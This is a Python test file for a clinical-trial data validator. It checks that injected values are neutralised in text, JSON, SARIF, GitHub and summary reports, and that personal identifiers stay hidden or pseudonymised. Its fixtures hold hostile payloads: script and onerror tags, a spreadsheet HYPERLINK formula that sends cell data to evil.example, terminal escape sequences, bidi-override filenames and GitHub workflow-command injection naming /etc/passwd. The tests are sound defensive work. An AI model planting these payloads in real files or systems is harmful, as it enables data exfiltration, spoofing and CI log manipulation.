"""Data made to do harm stay text: in the terminal, JSON, SARIF, GitHub commands, the job summary, hooks and explain."""

from __future__ import annotations

import html.parser
import json
import re
import shutil
import unicodedata
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

import anakinra_t2d as trial
from anakinra_t2d.cli.hook import hook
from anakinra_t2d.conversion.outcome import Outcome, TableOutcome
from anakinra_t2d.finding import Location
from anakinra_t2d.report.github import job_summary, workflow_commands
from anakinra_t2d.report.json_document import as_json
from anakinra_t2d.report.plain import one_line
from anakinra_t2d.report.sarif import as_sarif
from anakinra_t2d.report.text import plain_report
from anakinra_t2d.schema import definitions
from anakinra_t2d.wording import HIDDEN, PSEUDONYM_KEY, Wording, pseudonym
from conftest import change, made_once, worked_out_once

FOUND = definitions()
HOSTILE = {
    "html": "<img src=x onerror=alert(1)></script><script>alert(2)</script>",
    "formula": '=HYPERLINK("http://evil.example/"&A1)',
    "escape": "\x1b[2J\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x9b31m",
    "direction": "abc\u202etxt.exe\u2066\u200f",
    "command": "::error file=/etc/passwd::owned ##[add-mask]x",
    "markdown": "| a | [x](javascript:alert(1)) ![y](http://evil.example/p.png) `z` http://evil.example",
    "placeholder": "{0} {subject_id} {value} %0A::add-mask::x",
    "control": "a\x01b\x08c\x7fd",
    "long": "a" * 1_000_000,
}


def commands_nothing(text: str) -> None:
    """No character that moves a cursor, changes a colour or turns the direction of the text."""
    for char in set(text):
        assert char == "\n" or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp"), repr(char)


class TagsOf(html.parser.HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: object) -> None:  # noqa: ARG002
        self.found.append(tag)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_submission_made_to_do_harm(name: str, tmp_path: Path) -> None:
    """The text in a value, in a key, in a header and in the name of a file, in every format."""
    text = HOSTILE[name]
    quoted = '"' + text.replace('"', '""') + '"'
    (tmp_path / "sites.csv").write_text(f"site_id,country,{quoted}\n{quoted},{quoted},x\n", encoding="utf-8")
    (tmp_path / f"{text.replace('/', '_')[:40]}.csv").write_text("a\n1\n", encoding="utf-8")
    outcome = trial.validate(tmp_path)
    assert {"HEAD-003", "FILE-006"} <= {finding.code for finding in outcome.findings}

    report = plain_report(outcome, FOUND)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", report)
    document = json.loads(as_json(outcome))
    assert len(document["findings"]) == len(outcome.findings)
    assert not any(len(finding["value"] or "") > 2000 for finding in document["findings"])

    sarif = as_sarif(outcome, FOUND)
    assert sarif.isascii()
    for result in json.loads(sarif)["runs"][0]["results"]:
        words = result["message"]["text"]
        commands_nothing(words)
        assert len(words) <= 1100
        assert "](" not in words
        assert not re.search(r"(?<!\{)\{[0-9]", words)
        uri = result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
        assert re.fullmatch(r"[A-Za-z0-9_.~/%-]+", uri)

    for line in workflow_commands(outcome):
        commands_nothing(line)
        # a property ends at a comma and the properties at a double colon, so neither may come from the data
        assert re.match(r"::(error|warning|notice) ([a-z]+=[^,:]*)(,[a-z]+=[^,:]*)*::[^\n]{0,3000}$", line), line[:300]

    summary = job_summary(outcome, FOUND)
    commands_nothing(summary)
    assert TagsOf(summary).found == []
    assert not re.search(r"(?<!&#58;)://|\]\(|!\[|<", summary)
    assert len(summary.encode()) < 200_000

    files = [str(path) for path in tmp_path.iterdir()]
    result = CliRunner().invoke(hook, ["data", "--show-values", *files])
    assert result.exit_code == 1, result.output[:2000]
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f]", result.output)


class TestPlaces:
    def test_names_of_sheets(self, tmp_path: Path) -> None:
        book = openpyxl.Workbook()
        book.active.title = "labs\u202e=1+1"
        book.active.append(["<b>", "=1+1"])
        book.active.append(["\u202eabc", "::error::x"])
        book.save(tmp_path / "a.xlsx")
        (tmp_path / "sites.csv").write_text("site_id\nDK01\n", encoding="utf-8")
        outcome = trial.validate(tmp_path)
        assert "FILE-006" in {finding.code for finding in outcome.findings}
        for line in workflow_commands(outcome):
            commands_nothing(line)
        commands_nothing(as_sarif(outcome, FOUND))

    def test_a_personal_number_in_the_place_of_a_header_is_hidden(self, tmp_path: Path) -> None:
        (tmp_path / "sites.csv").write_text("site_id,010147-1234\nDK01,x\n", encoding="utf-8")
        outcome = trial.validate(tmp_path)
        for text in (plain_report(outcome, FOUND), as_json(outcome), as_sarif(outcome, FOUND)):
            assert "010147" not in text

    @given(st.text(max_size=60), st.text(min_size=1, max_size=60), st.text(min_size=1, max_size=60))
    @settings(max_examples=60, deadline=None)
    def test_any_text_in_any_part_of_a_finding(self, value: str, name: str, column: str) -> None:
        finding = Wording(FOUND).finding(
            FOUND.builtin_rules["LIST-001"],
            table="labs",
            key={"subject_id": value, "visit": name, "visit_seq": column},
            field="visit",
            value=value,
            values={"terms": name, "column": column},
            location=Location(name, column, 3, value),
        )
        outcome = Outcome(findings=[finding], tables={"labs": TableOutcome(name, rows_read=1)})
        (run,) = json.loads(as_sarif(outcome, FOUND, name))["runs"]
        commands_nothing(run["results"][0]["message"]["text"])
        for line in workflow_commands(outcome, name):
            commands_nothing(line)
            assert re.match(r"::(error|warning|notice) ([a-z]+=[^,:]*)(,[a-z]+=[^,:]*)*::", line)
        summary = job_summary(outcome, FOUND)
        commands_nothing(summary)
        assert TagsOf(summary).found == []
        assert [line.count("|") for line in summary.splitlines() if line.startswith("| labs |")] == [7]

    @given(st.text(max_size=300), st.integers(2, 100))
    @settings(max_examples=100, deadline=None)
    def test_one_line_is_short_and_commands_nothing(self, text: str, most: int) -> None:
        line = one_line(text, most)
        assert "\n" not in line
        commands_nothing(line)
        assert len(line) <= most


def every_format(outcome: Outcome) -> str:
    parts = [plain_report(outcome, FOUND), as_json(outcome), as_sarif(outcome, FOUND), job_summary(outcome, FOUND)]
    return "\n".join([*parts, *workflow_commands(outcome)])


@pytest.fixture(scope="module")
def spoiled(sound_trial: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    def make(folder: Path) -> None:
        shutil.copytree(sound_trial, folder)
        change(folder / "labs.csv", lambda rows: rows[0].update(hba1c_pct="88.75"))
        change(folder / "vitals.csv", lambda rows: rows[3].update(visit="vierte Woche", weight_kg="4711"))
        change(folder / "visits.csv", lambda rows: rows[1].update(visit_date="1987-06-05"))
        change(folder / "subjects.csv", lambda rows: rows[0].update(birth_date="1933-03-07"))
        change(folder / "subjects.csv", lambda rows: rows[1].update(birth_date="1989-03-09"))

    return made_once(tmp_path_factory, "hostile_spoiled", make)


@pytest.fixture(scope="module")
def shown(spoiled: Path, tmp_path_factory: pytest.TempPathFactory) -> Outcome:
    return worked_out_once(tmp_path_factory, "hostile_shown", lambda: trial.validate(spoiled))


class TestNoValues:
    def test_no_format_shows_a_value_or_a_subject_number(self, spoiled: Path, shown: Outcome) -> None:
        outcome = trial.validate(spoiled, show_values=False)
        assert sorted(f.code for f in outcome.findings) == sorted(f.code for f in shown.findings)
        text = every_format(outcome)
        assert not re.search(r"(DK|CH)01-\d{3}", text)
        for value in ("88.75", "4711", "vierte Woche", "1987-06-05", "1933", "1989"):
            assert value not in text, value

    def test_an_identifying_field_is_hidden_always(self, shown: Outcome) -> None:
        assert "PRIV-001" in {finding.code for finding in shown.findings if finding.field == "birth_date"}
        text = every_format(shown)
        assert "1933" not in text
        assert "1989" not in text

    @pytest.mark.parametrize("code", ["DATE-001", "DATE-002"])
    def test_words_of_a_rule_do_not_repeat_an_identifying_field(self, code: str) -> None:
        finding = Wording(FOUND).finding(
            FOUND.across_rules[code],
            table="subjects",
            key={"subject_id": "DK01-001"},
            field="birth_date",
            value="1947-05-06",
            values={"found": "1947-05-06", "delivered": "2005-01-01"},
        )
        assert "1947" not in str(finding)

    def test_words_that_repeat_a_cell_are_hidden(self) -> None:
        for show, shown in ((True, "8.31"), (False, HIDDEN)):
            finding = Wording(FOUND, show_values=show).finding(
                FOUND.builtin_rules["SRC-001"],
                table="labs",
                key={"subject_id": "DK01-001"},
                field="hba1c_pct",
                values={"other": "8.31"},
            )
            assert shown in finding.message

    def test_pseudonyms_are_the_same_in_every_run_and_keyed_by_a_secret(self, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.delenv(PSEUDONYM_KEY, raising=False)
        plain = pseudonym("DK01-001")
        assert plain == pseudonym("DK01-001") != pseudonym("DK01-002")
        monkeypatch.setenv(PSEUDONYM_KEY, "a secret")
        keyed = pseudonym("DK01-001")
        assert keyed == pseudonym("DK01-001") != plain
        monkeypatch.setenv(PSEUDONYM_KEY, "another secret")
        assert pseudonym("DK01-001") not in (plain, keyed)
        assert pseudonym("") == ""

    def test_a_message_names_its_code_in_every_format(self, shown: Outcome) -> None:
        first = replace(shown, findings=list({finding.code: finding for finding in shown.findings}.values()))
        for text in (plain_report(first, FOUND), as_json(first), as_sarif(first, FOUND), job_summary(first, FOUND)):
            assert all(finding.code in text for finding in first.findings)
